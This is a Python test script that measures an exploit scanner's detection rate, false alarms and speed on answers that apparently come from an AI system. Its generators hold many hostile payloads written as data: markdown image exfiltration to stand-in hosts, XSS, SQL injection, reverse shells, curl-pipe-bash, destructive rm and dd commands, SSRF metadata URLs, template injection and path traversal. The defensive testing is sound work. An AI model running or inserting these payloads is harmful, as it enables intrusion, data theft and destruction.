r"""Which exploits in answers are found, how often an ordinary answer raises an alarm, and how fast.

Payloads of each kind, made up anew, stand in carriers; answers of support lines and of technical
help have none. An alarm is a score of 0.5 or more.

    python tests/accuracy/outputs.py
"""

from __future__ import annotations

import base64
import random
import sys
import time
from collections import Counter
from collections.abc import Callable

from pytest_voicearena.scan.exploits import find_exploits
from pytest_voicearena.scan.loops import find_loops
from pytest_voicearena.scan.truncation import find_empty, find_truncation

SEED = 7
ALARM = 0.5
LEAST_FOUND = 0.95
MOST_FALSE = 0.01
LEAST_SPEED = 10.0
MOST_SECONDS = 1.0
MEGABYTE = 1_000_000
TIMES = 6

WORDS = "invoice balance session customer refund account summary password history notes".split()  # noqa: SIM905
HOSTS = ["collect.evil.example", "cdn-img.example.net", "a.attacker.test", "203.0.113.7:8080"]
CARRIERS = [
    "{}",
    "Sure, here it is: {}",
    "Your order is on its way. {}",
    "{}\n\nLet me know if you need anything else.",
    "Summary of the page:\n{}",
]


def encoded(rng: random.Random) -> str:
    """A few words in Base64 for addresses."""
    words = " ".join(rng.choices(WORDS, k=rng.randint(3, 7)))
    return base64.urlsafe_b64encode(words.encode()).decode().rstrip("=")


def exfiltration(rng: random.Random) -> str:
    host, secret = rng.choice(HOSTS), "%20".join(rng.choices(WORDS, k=5))
    return rng.choice([
        f"![logo](https://{host}/p.png?data={secret})",
        f"![](http://{host}/i?q={encoded(rng)})",
        f"![img](https://{host}/{encoded(rng)}.png)",
        f"![x](https://{encoded(rng).lower()[:30]}.{host.split(':')[0]}/x.png?d=1)",
        f'<img src="https://{host}/log?cookie={secret}">',
        f"<img src=https://{host}/a.gif?chat={encoded(rng)} width=1 height=1>",
        f"[click here for your refund](https://{host}/r?password={secret})",
        f"[more](https://{host}/go?data={encoded(rng)})",
        f"![pixel](https://{host}/track?prompt={{{{conversation}}}})",
        f"![a][1]\n\n[1]: https://{host}/x?secret={secret}",
        f"background: url('https://{host}/bg?history={secret}')",
        f"[https://www.bramwell.example](https://{host.split(':')[0]}/login)",
    ])  # fmt: skip


def script(rng: random.Random) -> str:
    return rng.choice([
        "<script>alert(1)</script>",
        f"<script src=https://{rng.choice(HOSTS)}/x.js></script>",
        "<img src=x onerror=alert(document.domain)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<body onload=fetch('//evil.example/'+document.cookie)>",
        f'<iframe src="https://{rng.choice(HOSTS)}/f"></iframe>',
        "<a href=\"javascript:alert('x')\">your invoice</a>",
        "[your invoice](javascript:fetch('//e.example?c='+document.cookie))",
        "<form action=https://evil.example/login method=post><input name=password></form>",
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
        "<details open ontoggle=confirm(1)>",
        "<input autofocus onfocus=alert(1)>",
        '<math><a xlink:href="javascript:alert(1)">x</a></math>',
        "<video><source onerror=alert(1)></video>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
        '<base href="https://evil.example/">',
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<div style='x' onmouseover='eval(atob(\"YWxlcnQoMSk=\"))'>hover</div>",
    ])  # fmt: skip


def sql(rng: random.Random) -> str:
    number, table = rng.randint(1, 99), rng.choice(["users", "orders", "accounts", "sessions"])
    return rng.choice([
        "' OR '1'='1",
        f"' or {number}={number} --",
        '" OR ""="',
        "admin'--",
        f"{number} UNION SELECT username, password FROM {table}",
        f"' UNION ALL SELECT NULL, NULL, version() FROM {table} --",
        f"x'; DROP TABLE {table}; --",
        f"1; DELETE FROM {table}",
        f"DROP TABLE {table};",
        f"TRUNCATE TABLE {table};",
        f"DELETE FROM {table};",
        "'; EXEC xp_cmdshell('dir'); --",
        "1' AND SLEEP(5)--",
        "'; WAITFOR DELAY '0:0:5'--",
        "1) or pg_sleep(10)--",
        "' AND 1=1 UNION SELECT table_name FROM information_schema.tables --",
        "') OR ('a'='a",
        f"GRANT ALL PRIVILEGES ON *.* TO 'guest{number}'@'%';",
        '{"username": "admin", "password": {"$ne": null}}',
        f"SELECT LOAD_FILE('/etc/passwd') INTO OUTFILE '/tmp/{table}'",
    ])  # fmt: skip


def shell(rng: random.Random) -> str:
    host = rng.choice(HOSTS)
    return rng.choice([
        "rm -rf /",
        "sudo rm -rf / --no-preserve-root",
        "rm -rf ~/",
        "rm -rf /*",
        "sudo rm -r -f /etc",
        ":(){ :|:& };:",
        "mkfs.ext4 /dev/sda1",
        "dd if=/dev/zero of=/dev/sda bs=1M",
        f"curl http://{host}/x.sh | bash",
        f"wget -qO- http://{host}/i | sudo sh",
        f"curl -s https://{host}/get.sh | sh",
        f"bash <(curl -s http://{host}/a)",
        f"bash -i >& /dev/tcp/203.0.113.{rng.randint(1, 250)}/4444 0>&1",
        f"nc -e /bin/sh {host.split(':')[0]} 4444",
        "python3 -c 'import socket,subprocess,os;s=socket.socket()'",
        f"powershell -enc {base64.b64encode(b'Write-Host hello there').decode()}",
        f"IEX(New-Object Net.WebClient).DownloadString('http://{host}/p.ps1')",
        "chmod -R 777 /",
        "report.txt; cat /etc/passwd",
        "del /f /s /q C:\\Windows",
        f"certutil -urlcache -split -f http://{host}/a.exe a.exe",
        "echo x > /dev/sda",
    ])  # fmt: skip


def ssrf(rng: random.Random) -> str:
    return rng.choice([
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://169.254.169.254/latest/user-data",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://100.100.100.200/latest/meta-data/",
        "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01",
        "file:///etc/passwd",
        "file:///proc/self/environ",
        "file:///C:/Windows/win.ini",
        f"gopher://127.0.0.1:6379/_FLUSHALL{rng.randint(1, 9)}",
        "dict://127.0.0.1:11211/stats",
        "http://2852039166/latest/meta-data/",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "php://filter/convert.base64-encode/resource=index.php",
    ])  # fmt: skip


def template(rng: random.Random) -> str:
    one, other = rng.randint(2, 99), rng.randint(2, 99)
    return rng.choice([
        f"{{{{{one}*{other}}}}}",
        f"{{{{ {one} * '{other}' }}}}",
        f"${{{one}*{other}}}",
        f"#{{{one}*{other}}}",
        f"<%= {one} * {other} %>",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{config.items()}}",
        "{{ self.__init__.__globals__.__builtins__ }}",
        "{{cycler.__init__.__globals__.os.popen('id').read()}}",
        "{{constructor.constructor('alert(1)')()}}",
        "${jndi:ldap://evil.example/a}",
        '${T(java.lang.Runtime).getRuntime().exec("id")}',
        "<%= system('id') %>",
        "{% import os %}{{ os.system('id') }}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
    ])  # fmt: skip


def path(rng: random.Random) -> str:
    up = "../" * rng.randint(2, 7)
    return rng.choice([
        f"{up}etc/passwd",
        f"/var/www/{up}etc/shadow",
        f"{up}.ssh/id_rsa",
        "..\\..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%2f..%2f..%2fetc/passwd",
        "....//....//....//etc/passwd",
        "..%c0%af..%c0%afetc/passwd",
        "%252e%252e%252f%252e%252e%252fetc/passwd",
        f"images/{up}{up}proc/self/environ",
    ])  # fmt: skip


def formula(rng: random.Random) -> str:
    host = rng.choice(HOSTS)
    return rng.choice([
        "=cmd|'/C calc'!A0",
        "+cmd|' /C powershell IEX(wget x)'!A0",
        f'=HYPERLINK("http://{host}/?x="&A1,"open")',
        f'=IMPORTXML(CONCAT("http://{host}/?v=", CONCATENATE(A2:E2)), "//a")',
        f'=WEBSERVICE("http://{host}/"&B2)',
        f'name,=IMPORTDATA("http://{host}/?d="&A1)',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=DDE("cmd";"/C calc";"x")',
        f'=IMAGE("https://{host}/i.png?q="&A1)',
    ])  # fmt: skip


def terminal(rng: random.Random) -> str:
    return rng.choice([
        "\x1b]52;c;cm0gLXJmIC8=\x07",
        "\x1b]8;;http://evil.example\x1b\\your bank\x1b]8;;\x1b\\",
        "\x1b[2J\x1b[H",
        "done\x1b[1A\x1b[2K",
        "\x1b]0;new title\x07",
        f"\x1b[3{rng.randint(1, 7)}mred\x1b[0m",
        "\x9b31mtext",
        "\x1bP+q544e\x1b\\",
    ])  # fmt: skip


def unseen(rng: random.Random) -> str:
    hidden = "".join(chr(0xE0000 + ord(char)) for char in rng.choice(WORDS))
    bits = "".join(rng.choices("\u200b\u200c", k=24))
    return rng.choice([
        f"Hello{hidden} there",
        f"Hello{bits} there",
        "file\u202egpj.exe",
        "if access\u2066 != user\u2069\u2066 then",
        "a" + "".join(chr(0xE0100 + ord(char)) for char in rng.choice(WORDS)),
        "\u2063\u2062\u2064\u2063 ok",
    ])  # fmt: skip


def other(rng: random.Random) -> str:
    number = rng.randint(1, 99)
    return rng.choice([
        '{"__proto__": {"isAdmin": true}}',
        '{"constructor": {"prototype": {"admin": 1}}}',
        f"?__proto__[role]=admin{number}",
        "obj.__proto__.polluted = 'yes'",
        "*)(uid=*))(|(uid=*",
        "admin)(&)",
        "*)(|(objectClass=*))",
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        '<!ENTITY % p SYSTEM "http://evil.example/x.dtd">',
        '<!ENTITY lol2 "&lol;&lol;&lol;&lol;">',
        "/login?next=%0d%0aSet-Cookie:%20session=evil",
    ])  # fmt: skip


KINDS: list[Callable[[random.Random], str]] = [
    *(exfiltration, script, sql, shell, ssrf, template, path, formula, terminal, unseen, other),
]

#: Answers of technical help, none of which is to raise an alarm.
TECHNICAL = """\
Click <b>OK</b>, then choose <i>Save as</i>.
Press Ctrl+C to copy and Ctrl+V to paste.
Use `SELECT name, email FROM customers WHERE city = 'Utrecht';` to list them.
To count the orders of each day: SELECT day, COUNT(*) FROM orders GROUP BY day ORDER BY day;
You can join the tables: SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.total > 100 AND c.active = 1;
UPDATE customers SET email = 'new@shop.example' WHERE id = 42;
DELETE FROM carts WHERE created < '2024-01-01';
INSERT INTO notes (id, body) VALUES (7, 'call back on Monday');
To remove a table for good, use `DROP TABLE old_logs;`, but make a backup first.
SQL has UNION and UNION ALL; the first removes duplicates.
To prevent SQL injection, use parameterized queries. An attacker could otherwise enter `' OR '1'='1` as a name.
Run `npm install`, then `npm start`, and open http://localhost:3000 in your browser.
Run `pip install requests` and then `python app.py`.
To delete the build folder, run `rm -rf ./build` in the project.
rm -rf node_modules && npm install usually helps.
rm -rf /var/lib/myapp/cache/tmp removes the cache of the program.
Never run `rm -rf /`: it deletes everything on the machine.
Use `ls -la`, `cd ..` and `cat notes.txt` to look around.
chmod +x deploy.sh makes the script executable; chmod 644 index.html is enough for pages.
The log is in /var/log/nginx/error.log; use tail -f to follow it.
You can download it with curl -O https://downloads.shop.example/manual.pdf.
Install it with `curl -sSL https://install.tool.example | sh`.
wget https://mirror.example.org/linux.iso && sha256sum linux.iso
List the users of a Linux machine with `cat /etc/passwd`.
Edit /etc/hosts with administrator rights to add a name.
Use git reset --hard HEAD~1 to go back one commit; git push --force overwrites the remote branch.
docker run -p 8080:80 nginx starts a web server in a container.
kubectl get pods -n shop | grep api lists them.
In Jinja, write {{ user.name }} to show a name and {% for item in items %} for a loop.
The mail template holds {{first_name}} and {{order_number}}; both are filled when it is sent.
In a shell, ${HOME} is your home folder and $(date) is the current date.
Write `${{ matrix.python-version }}` in the workflow file.
In EJS, <%= title %> prints the title.
Use f"{price * amount:.2f}" in Python to print two decimals.
In CSS, write a { color: red; } and .card { background: url('/img/card.png'); }.
![Our new lamp](https://cdn.shop.example/img/halo.png)
![Map](https://maps.shop.example/static/harrow-street.png?w=600&h=400&zoom=14)
![build](https://img.badges.example/badge/build-passing-green?style=flat&logo=python)
![Photo](https://images.photos.example/photo-1518791841217?ixlib=rb-4.0.3&auto=format&fit=crop&w=800&q=80)
![Receipt](https://files.shop.example/r/10442.png?X-Amz-Signature=4f2a9d8c7b6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a&X-Amz-Expires=900)
You find it [in the manual](https://www.shop.example/manual#page-12).
Reset your password here: [reset](https://account.shop.example/reset?token=8f14e45fceea167a5a36dedd4bea2543)
[Search results](https://www.shop.example/search?q=halo+desk+lamp+with+warm+light)
[Our newsletter](https://news.shop.example/march?utm_source=mail&utm_medium=cta&utm_campaign=spring)
[Sign in](https://id.shop.example/auth?redirect_uri=https%3A%2F%2Fwww.shop.example%2Faccount&state=af0ifjsldkj)
[write to us](mailto:care@shop.example?subject=My%20order)
[www.shop.example](https://www.shop.example/)
[shop.example](https://www.shop.example/en)
Watch it here: https://video.example/watch?v=dQw4w9WgXcQ
The status page is https://status.shop.example/?lang=en.
Add <meta charset="utf-8"> and <title>Shop</title> to the head of the page.
Put `<script src="app.js"></script>` before the end of the body.
```html
<button onclick="save()">Save</button>
```
```html
<form action="/search"><input name="q"></form>
<iframe src="https://maps.shop.example/embed"></iframe>
```
```js
document.querySelector("#total").textContent = sum;
fetch("/api/orders").then(r => r.json());
```
```python
for row in rows:
    print(row["name"])
```
```sql
DROP TABLE IF EXISTS staging;
CREATE TABLE staging (id int);
```
```sh
rm -rf dist && mkdir dist
```
Use <br> for a line break and <strong> for bold text.
An SVG such as <svg width="24" height="24"><path d="M4 4h16v16H4z"/></svg> scales without loss.
The <img> tag needs an alt text: <img src="/img/halo.png" alt="Halo lamp" width="200">.
Cells are added with =SUM(A1:A10), and averages with =AVERAGE(B2:B20).
=VLOOKUP(A2, Sheet2!A:C, 3, FALSE) finds the price.
=HYPERLINK("https://www.shop.example", "our shop") makes a link.
=IF(A1>100, "large", "small") sorts them.
-5 degrees outside, +3 tomorrow.
+31 20 555 0147 is the number of the desk.
@Nova will call you back.
import { Button } from "../../components/Button.js";
from ..models import Order
The file is in ../shared/logo.png, one folder up.
cd ../../ brings you to the root of the project.
import x from "../../../../shared/lib/format.ts";
JavaScript objects inherit from Object.prototype; the chain is visible as `__proto__`.
Write class Cart { constructor(items) { this.items = items; } }.
The LDAP filter (&(objectClass=person)(cn=Nova*)) finds all of them.
(|(mail=*@shop.example)(uid=nova)) matches either.
(&(cn=a*)(mail=*)) needs both.
The XML begins with <?xml version="1.0"?> and has one root element.
<!DOCTYPE html> is the first line of the page.
<order id="10442"><item>Halo</item></order>
{"order": "TC-10442", "status": "shipped", "items": [{"name": "Halo", "price": 49}]}
{"age": {"$gt": 21}, "city": "Utrecht"} finds everybody above 21.
The regular expression ^[A-Z]{2}-\\d{5}$ matches order numbers.
Use `grep -r "total" src/ | wc -l` to count the lines.
ps aux | grep python shows whether it runs.
kill -9 4711 stops the process with that number.
ping shop.example shows whether the server answers.
The address 192.168.1.1 opens the settings of your router.
Your public address is 203.0.113.42, the private one 10.0.0.5.
file:///srv/manual.pdf opens the file in a browser.
ftp://ftp.shop.example/drivers holds the older drivers.
The instance metadata service of a cloud machine listens at 169.254.169.254; block it for containers.
The command dd if=linux.iso of=usb.img bs=4M writes the image to a file.
Format the memory card in the camera, not in the computer.
Drop the parcel at the counter; delete the app if it hangs.
We drop the price on Monday; update the app before.
You can update your address or delete your account in the app.
Union members get ten percent off; select the option at the checkout.
Either the 9 or the 10 o'clock train is fine.
Is it 'yes' or 'no'? It's either 1 or 2.
The options are: 'small', 'medium' or 'large'; choose one.
Don't; it's a "test" -- nothing more.
The customer said 'yes' -- and paid.
5 > 3 and 2 < 4, as you can see.
The result is 7*7 = 49.
Use 2>&1 to see errors, too: make test > log.txt 2>&1
alias ll='ls -l' goes into ~/.bashrc; then source it.
export PATH="$HOME/bin:$PATH"
Press \\x1b or Escape to leave the menu; in code it is written "\\033[31m".
In Python, print("\\x1b[1mbold\\x1b[0m") prints bold text.
\U0001f44d Great, that worked!
\U0001f468\u200d\U0001f469\u200d\U0001f467 Family rooms have four beds.
\u2764\ufe0f Thank you!
\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f We ship to Scotland, too.
\u0645\u0631\u062d\u0628\u0627! \u0637\u0644\u0628\u0643 \u0641\u064a \u0627\u0644\u0637\u0631\u064a\u0642.
\u05e9\u05dc\u05d5\u05dd, \u05d4\u05d4\u05d6\u05de\u05e0\u05d4 \u05d1\u05d3\u05e8\u05da.
\u0928\u092e\u0938\u094d\u0924\u0947, \u0906\u092a\u0915\u093e \u0911\u0930\u094d\u0921\u0930 \u0930\u093e\u0938\u094d\u0924\u0947 \u092e\u0947\u0902 \u0939\u0948\u0964
zero\u200bwidth spaces sometimes come from copied text.
The price is 49 \u20ac; that's 20 % less.
"""
#: What support lines say, with places to fill.
ORDINARY = [
    "Your order {number} left our warehouse on {day} and arrives within {few} working days.",
    "The {thing} costs {number} euros; delivery is free above 50 euros.",
    "I have booked the {thing} for {day} at {few} o'clock. You will get a message.",
    "We're open Monday to Friday (9-6) & Saturday (10-2).",
    "To reset the {thing}: hold the button for {few} seconds, then wait; the ring turns white.",
    "Your balance is {number}.{few}0 euros, and the last payment came in on {day}.",
    'Go to "Settings" > "Account" > "Password" and follow the steps.',
    "The code for the parcel box is in the message that we sent on {day}.",
    "Please send the {thing} back within 30 days; the label is at https://www.shop.example/returns/{number}.",
    "1. Open the app.\n2. Choose the {thing}.\n3. Press *Update* and wait {few} minutes.",
    "| Day | Hours |\n| --- | --- |\n| {day} | 9-6 |",
    "I can't find order #{number}; could you spell the name, please?",
    "It's {few} or {few}; I'll check & call you back at 020/555-0147.",
    "**{thing}**: {number} euros\n_Free delivery_",
]  # fmt: skip
THINGS = ["lamp", "speaker", "mug", "headset", "router", "doctor's visit", "double room", "card"]
DAYS = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday"]
HOSTILE = [
    *("<", "<img ", "![a](//x", "[a](//b.c/", "<script ", "' or ", "union select ", "; drop "),
    *("curl http://", "{{", "${", "../", "..%2f", '=hyperlink("a"', "*)(", "\x1b[", "\u202e"),
    *("\u200b", "`", "import socket ", "powershell ", "iex ", "sleep(", "a\r", "<!entity ", "a"),
]


def say(line: str) -> None:
    sys.stdout.write(line + "\n")


def alarms(text: str) -> list[str]:
    return [match.name for match in find_exploits(text) if match.score >= ALARM]


def measure_found() -> float:
    """The share of payloads that raise an alarm, told by kind."""
    rng = random.Random(SEED)
    found: Counter[str] = Counter()
    total: Counter[str] = Counter()
    missed: set[str] = set()
    for kind in KINDS:
        for _ in range(TIMES * 10):
            text = rng.choice(CARRIERS).format(kind(rng))
            total[kind.__name__] += 1
            if alarms(text):
                found[kind.__name__] += 1
            else:
                missed.add(text)
    for name, count in total.items():
        say(f"  {name:13} {found[name]:3} of {count}")
    for text in sorted(missed):
        say(f"  missed: {text!r}")
    return found.total() / total.total()


def technical() -> list[str]:
    """The technical answers; a block of code is one with its fences."""
    answers: list[str] = []
    fence: list[str] | None = None
    for line in TECHNICAL.splitlines():
        if fence is None and not line.startswith("```"):
            answers.append(line)
        elif fence is None:
            fence = [line]
        else:
            fence.append(line)
            if line == "```":
                answers.append("Like this:\n" + "\n".join(fence))
                fence = None
    return answers


def filled(rng: random.Random, line: str) -> str:
    return line.format(
        number=rng.randint(10, 99999),
        few=rng.randint(2, 9),
        day=rng.choice(DAYS),
        thing=rng.choice(THINGS),
    )


def harmless() -> list[str]:
    rng = random.Random(SEED)
    plain, expert = [filled(rng, rng.choice(ORDINARY)) for _ in range(400)], technical()
    mixed = [f"{rng.choice(plain)} {one}" for one in expert]
    return [*plain, *expert, *mixed]


def measure_false() -> tuple[float, int]:
    """The share of harmless answers that raise an alarm, and how many there are."""
    answers = harmless()
    false = [(text, found) for text in answers if (found := alarms(text))]
    for text, found in false:
        say(f"  false alarm: {found} {text!r}")
    return len(false) / len(answers), len(answers)


def measure_speed(scan: Callable[[str], object]) -> float:
    """Megabytes a second of CPU time on ordinary answers of one to four sentences."""
    rng = random.Random(SEED)
    answers = [
        " ".join(filled(rng, line) for line in rng.sample(ORDINARY, rng.randint(1, 4)))
        for _ in range(2_000)
    ]
    scan(answers[0])
    begin = time.process_time()
    for answer in answers:
        scan(answer)
    size = sum(len(answer.encode()) for answer in answers)
    return size / (time.process_time() - begin) / MEGABYTE


def worst(scan: Callable[[str], object]) -> float:
    """Seconds of CPU time that the slowest hostile megabyte takes."""
    slowest = 0.0
    for piece in HOSTILE:
        text = piece * (MEGABYTE // len(piece))
        begin = time.process_time()
        scan(text)
        slowest = max(slowest, time.process_time() - begin)
    return slowest


def main() -> int:
    rate = measure_found()
    false, count = measure_false()
    goals = {
        f"exploits found: {rate:.1%}, at least {LEAST_FOUND:.0%}": rate >= LEAST_FOUND,
        f"false alarms: {false:.2%} of {count}, at most {MOST_FALSE:.0%}": false <= MOST_FALSE,
    }
    for scan in (find_exploits, find_loops, find_empty, find_truncation):
        speed, slowest = measure_speed(scan), worst(scan)
        name = scan.__name__
        goals[f"{name}: {speed:.1f} MB/s, at least {LEAST_SPEED:.0f}"] = speed >= LEAST_SPEED
        goals[f"{name}: hostile megabyte {slowest:.2f} s"] = slowest < MOST_SECONDS
    say("")
    for goal, reached in goals.items():
        say(f"{'ok  ' if reached else 'MISS'} {goal}")
    return 0 if all(goals.values()) else 1


if __name__ == "__main__":
    sys.exit(main())
